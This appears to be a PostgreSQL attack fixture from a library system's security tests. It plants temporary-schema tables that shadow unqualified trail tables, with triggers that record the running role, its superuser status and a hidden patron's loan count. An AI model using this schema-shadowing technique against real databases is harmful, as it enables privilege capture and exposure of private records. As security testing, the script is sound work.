-- test/attack/session9_spy.sql: the attacker's spy of test/sql/attack_session9.sql,
-- made in its session's temporary schema after each \c (setting as9.actor first):
-- tables named like the trails the ILS's triggers write (loan_trail,
-- summary_trail, named there without a schema), each with a trigger that records
-- in public.as9_loot the actor, the trail, the role it ran as, whether that role
-- is a superuser, and how many of Eve's hidden loans that role read.
\o /dev/null
CREATE FUNCTION pg_temp.as9_spy() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.as9_loot
    SELECT pg_catalog.current_setting('as9.actor'), TG_TABLE_NAME, current_user,
           (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname = current_user),
           (SELECT pg_catalog.count(*) FROM s9.loans l WHERE l.patron_id = 5);
    RETURN NEW;
END $$;
CREATE TABLE pg_temp.loan_trail (id int);
CREATE TABLE pg_temp.summary_trail (id int);
CREATE TRIGGER as9_spy BEFORE INSERT ON pg_temp.loan_trail FOR EACH ROW EXECUTE FUNCTION pg_temp.as9_spy();
CREATE TRIGGER as9_spy BEFORE INSERT ON pg_temp.summary_trail FOR EACH ROW EXECUTE FUNCTION pg_temp.as9_spy();
\o
